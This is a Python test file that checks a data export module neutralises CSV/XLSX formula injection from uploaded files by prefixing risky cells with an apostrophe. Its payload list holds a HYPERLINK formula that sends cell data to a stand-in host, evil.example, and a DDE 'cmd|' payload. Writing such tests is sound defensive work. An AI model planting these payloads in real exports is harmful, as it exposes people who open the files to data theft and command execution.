"""CSV/XLSX formula injection: text from uploaded files never runs as a formula when opened.

Names and categories starting with ``=``, ``+``, ``-`` or ``@`` (the classic
``=HYPERLINK(...)`` / ``=cmd|...`` payloads) reach the exported tables through uploaded layers
and boundary files; each file is read back as a spreadsheet reads it.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from exports.files import ranking_csv, ranking_xlsx, tables_csv, tables_xlsx
from exports.sheets import Sheet, csv_text, xlsx_bytes
from exports.view import build_view
from geo import priority
from geo.codes import Level
from loaders import demo
from loaders.export_inputs import map_level
from loaders.store import Store

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+62 811",
    "-2+3",
]
STARTS = ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> Store:
    """The demo pack with destinations and sectors that are spreadsheet formulas."""
    store = demo.build(tmp_path_factory.mktemp("formulas") / "store")
    rows = store.read_layer("placements").drop(columns="version")
    rows["destination"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(rows))]
    rows["sector"] = PAYLOADS[0]
    store.write_layer_version("placements", rows, {"source": "=evil.xlsx"}, replace=True)
    return store


def _view(store: Store, area: str = "99.01", rename: dict[str, str] | None = None):
    drawn, zoom, parent = map_level(area)
    villages = store.read_attributes(Level.VILLAGE, parent, ["code", "name", "district_name"])
    if rename:
        villages["name"] = villages["code"].map(rename).fillna(villages["name"])
    layers = {name: store.read_layer(name) for name in ("placements", "reports", "programmes", "enterprises")}
    return build_view(
        layers,
        store.read_areas(drawn, parent, display=zoom),
        villages,
        area=area,
        area_name=PAYLOADS[0],
        year=2024,
        sources=[PAYLOADS[1]],
    )


def _check_text(value: object, where: str) -> None:
    if isinstance(value, str):
        assert not value.startswith(STARTS), (where, value)


def test_xlsx_has_no_formula_and_keeps_the_text(hostile_store):
    data = tables_xlsx(_view(hostile_store))
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                _check_text(cell.value, f"{sheet.title}!{cell.coordinate}")
                seen.add(cell.value)
    assert "'" + PAYLOADS[0] in seen and "'" + PAYLOADS[1] in seen  # the text is kept, made inert
    assert "'" + PAYLOADS[2] in seen


def test_csv_village_names_and_headers_never_start_a_formula(hostile_store):
    codes = hostile_store.read_attributes(Level.VILLAGE, "99.01", ["code"])["code"].tolist()
    view = _view(hostile_store, rename={codes[0]: "=1+1", codes[1]: "@A1", codes[2]: "-1"})
    text = tables_csv(view).decode("utf-8-sig")
    rows = [r for r in csv.reader(io.StringIO(text)) if r and not r[0].startswith("#")]
    for row in rows:
        for cell in row:
            _check_text(cell, "csv")
    names = {r[1] for r in rows[1:]}
    assert {"'=1+1", "'@A1", "'-1"} <= names


def test_planner_ranking_files_are_neutralised():
    codes = ["99.01.01.2001", "99.01.01.2002"]
    table = pd.DataFrame(
        {"placements": [10.0, 20.0], "reports": [0.0, 1.0], "distance_km": [1.0, 2.0]},
        index=pd.Index(codes, name="code"),
    ).assign(enterprises=0.0, groups=0.0)
    ranked = priority.score(table, priority.DEFAULT_WEIGHTS, names={codes[0]: "=1+1", codes[1]: "Desa"})
    village = priority.ranking_headers("id")["name"]
    plain = pd.read_csv(io.BytesIO(ranking_csv(ranked, "id")), dtype=str, encoding="utf-8-sig")
    assert sorted(plain[village].tolist()) == ["'=1+1", "Desa"]
    book = openpyxl.load_workbook(io.BytesIO(ranking_xlsx(ranked, "id")))
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert "'=1+1" in values and all(c.data_type != "f" for row in book.active.iter_rows() for c in row)


def test_only_text_cells_are_neutralised():
    """A negative number stays a number (a fall of 5 is -5 with a signed format), never the text
    "'-5"; text that starts like a formula keeps its apostrophe."""
    frame = pd.DataFrame({"a": [-5, 12.5], "b": ["-5 dari 2023", "=1+1"]})
    data = xlsx_bytes([Sheet("t", frame, kinds={"a": "change"})], "id")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    a = [sheet.cell(r, 1) for r in (2, 3)]
    b = [sheet.cell(r, 2).value for r in (2, 3)]
    assert [c.value for c in a] == [-5, 12.5] and all(c.data_type == "n" for c in a)
    assert a[0].number_format.endswith('"−"#,##0;[$-421]0')
    assert b == ["'-5 dari 2023", "'=1+1"]
    text = csv_text(frame)
    assert text.splitlines()[1:] == ["-5.0,'-5 dari 2023", "12.5,'=1+1"]
